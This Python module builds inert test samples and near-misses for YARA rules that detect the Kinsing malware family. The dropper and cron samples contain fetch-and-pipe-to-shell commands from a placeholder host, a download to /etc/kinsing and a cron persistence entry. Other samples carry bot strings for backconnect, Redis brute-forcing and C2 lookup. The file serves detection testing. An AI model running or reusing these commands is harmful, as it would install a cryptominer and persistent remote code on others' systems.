"""Inert samples and near-misses for signatures/rules/kinsing.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, a, elf, split, text


def kinsing_bot() -> dict[str, bytes]:
    return {
        "kinsing-elf": elf(
            *a(
                "Go build ID: inert",
                "main.masscan",
                "main.backconnect",
                "main.getMinerPid",
                "main.redisBrute",
                "main.RC4",
                "main.runTask",
                "main.checkHealth",
                "main.getActiveC2CUrl",
                "-iL $INPUT --rate $RATE -p$PORT -oL $OUTPUT",
            )
        )
    }


def kinsing_miner() -> dict[str, bytes]:
    return {
        "kdevtmpfsi-elf": elf(
            *a("kdevtmpfsi", "XMRig", "xmrig.com", "--donate-level", "randomx", "stratum+tcp://", "cryptonight")
        )
    }


def kinsing_dropper() -> dict[str, bytes]:
    return {
        "d-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            'LDR="wget -q -O -"',
            "pkill -f kdevtmpfsi",
            "rm -f /tmp/kdevtmpfsi",
            f"$LDR http://{HOST}/kinsing > /etc/kinsing",
            "chmod +x /etc/kinsing",
            f"crontab -l | grep -e '{HOST}' | grep -v 'unk.sh' || "
            f"(echo '* * * * * $LDR http://{HOST}/unk.sh | sh > /dev/null 2>&1') | crontab -",
        )
    }


def kinsing_bot_near() -> dict[str, bytes]:
    # A Go port scanner wrapping masscan: one of the functions, its Go build ID.
    return {"go-masscan-wrapper-elf": elf(*a("Go build ID: inert", "main.masscan", "main.main", "main.parseTargets"))}


def kinsing_miner_near() -> dict[str, bytes]:
    # XMRig-like strings alone (that build has its own rules) do not make the kdevtmpfsi miner.
    return {"miner-doc-elf": elf(*a("kdevtmpfsi", "devtmpfs", "mount -t devtmpfs"))}


def kinsing_dropper_near() -> dict[str, bytes]:
    # A clean-up script an admin writes after an infection: the names, no download or cron install.
    return {
        "kinsing-cleanup-sh": text(
            "#!/bin/bash",
            "pkill -f kinsing; pkill -f kdevtmpfsi",
            "rm -f /tmp/kinsing /tmp/kdevtmpfsi /etc/libsystem.so",
            "sed -i '/unk.sh/d' /var/spool/cron/crontabs/root",
        )
    }


def kinsing_rootkit() -> dict[str, bytes]:
    return {
        "libsystem-so": elf(
            *a("kinsing", "kdevtmpfsi", "readdir64", "readdir", "/etc/ld.so.preload", "libsystem.so", "dlsym"), e_type=3
        )
    }


def kinsing_rootkit_near() -> dict[str, bytes]:
    return {"libprocfilter-so": elf(*a("readdir64", "dlsym", "/etc/ld.so.preload", "process_filter"), e_type=3)}


def kinsing_cron() -> dict[str, bytes]:
    return {"crontab-root": text(split(f"* * * * * wget -q -O - http://{HOST}/", "unk.sh | sh > /dev/null 2>&1"))}


def kinsing_cron_near() -> dict[str, bytes]:
    return {"crontab-monitor": text(f"* * * * * wget -q -O - http://{HOST}/health.sh > /var/log/health.log 2>&1")}


SAMPLES: Builders = {
    "Kinsing_Preload_Rootkit": kinsing_rootkit,
    "Kinsing_Cron_Entry": kinsing_cron,
    "Kinsing_Go_Bot": kinsing_bot,
    "Kinsing_kdevtmpfsi_Miner": kinsing_miner,
    "Kinsing_Dropper_Script": kinsing_dropper,
}

NEARMISS: Builders = {
    "Kinsing_Go_Bot": kinsing_bot_near,
    "Kinsing_kdevtmpfsi_Miner": kinsing_miner_near,
    "Kinsing_Dropper_Script": kinsing_dropper_near,
    "Kinsing_Preload_Rootkit": kinsing_rootkit_near,
    "Kinsing_Cron_Entry": kinsing_cron_near,
}
